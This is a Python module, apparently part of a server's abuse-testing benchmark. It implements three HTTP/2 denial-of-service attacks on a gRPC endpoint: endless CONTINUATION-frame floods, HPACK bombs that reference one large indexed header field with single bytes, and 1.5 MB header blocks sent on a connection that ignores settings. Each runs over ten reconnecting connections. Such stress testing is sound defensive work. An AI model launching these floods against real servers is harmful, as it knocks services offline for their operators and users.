"""Headers that never end (CONTINUATION floods), that grow as they are decoded (HPACK bombs), or that are large.

The latter come from a client that does not acknowledge the limits.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncGenerator, Awaitable, Callable
from contextlib import suppress
from functools import partial

from bench.abuse.attack import Attack
from bench.abuse.raw_http2 import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    Connection,
    SilentConnection,
    header,
    request_headers,
)

__all__ = ["CONTINUATIONS", "HPACK_BOMBS", "UNACKNOWLEDGED"]

_METHOD = "/milepost.v1.JobService/GetJob"
_CONNECTIONS = 10
_TOGETHER = 10

_FRAME = b"".join(header(f"x-note-{number}", b"x" * 1_000) for number in range(15))
"""Close to 16 KiB, the largest frame."""

_LARGE_FRAMES = 100

_INDEX = header("x-note", b"x" * 3_900).replace(b"\x00", b"\x40", 1)
"""Puts the field into the connection's table, where it fits just so."""

_INDEXED = b"\xbe"
"""The newest field of the table: one byte for 3,900."""


async def _continue(connection: Connection, address: str, until: float) -> None:
    """One call whose headers go on and on."""
    stream = connection.new_stream()
    connection.write(HEADERS, 0, stream, request_headers(_METHOD, address))
    while time.monotonic() < until:
        for _ in range(_TOGETHER):
            connection.write(CONTINUATION, 0, stream, _FRAME)
        await connection.drain()
        await asyncio.sleep(0)


async def _bomb(connection: Connection, address: str, until: float) -> None:
    """Calls of which each has as many such fields as fit into a frame, and calls that have one."""
    block = request_headers(_METHOD, address)
    connection.write(HEADERS, END_HEADERS, connection.new_stream(), block + _INDEX)
    while time.monotonic() < until:
        for times in [15_000, *[1] * _TOGETHER]:
            connection.write(HEADERS, END_HEADERS, connection.new_stream(), block + times * _INDEXED)
        await connection.drain()
        await asyncio.sleep(0)


async def _send_large(connection: Connection, address: str, until: float) -> None:
    """Calls with 1.5 MB of headers each, which core takes until the connection's limits are acknowledged."""
    while time.monotonic() < until:
        stream = connection.new_stream()
        connection.write(HEADERS, 0, stream, request_headers(_METHOD, address))
        for number in range(1, _LARGE_FRAMES + 1):
            connection.write(CONTINUATION, END_HEADERS if number == _LARGE_FRAMES else 0, stream, _FRAME)
            if number % _TOGETHER == 0:
                await connection.drain()
        await asyncio.sleep(0)


async def _run(
    flood: Callable[[Connection, str, float], Awaitable[None]],
    kind: type[Connection],
    address: str,
    seconds: float,
) -> AsyncGenerator[None]:
    yield
    until = time.monotonic() + seconds

    async def repeat() -> None:
        while time.monotonic() < until:  # as often as the server hangs up
            with suppress(ConnectionError):
                async with kind.open(address) as connection:
                    await flood(connection, address, until)

    # A host that the server's kernel keeps out would wait for its connection for two minutes.
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*(repeat() for _ in range(_CONNECTIONS)))
    yield


CONTINUATIONS = Attack(partial(_run, _continue, Connection))
HPACK_BOMBS = Attack(partial(_run, _bomb, Connection))
UNACKNOWLEDGED = Attack(partial(_run, _send_large, SilentConnection))
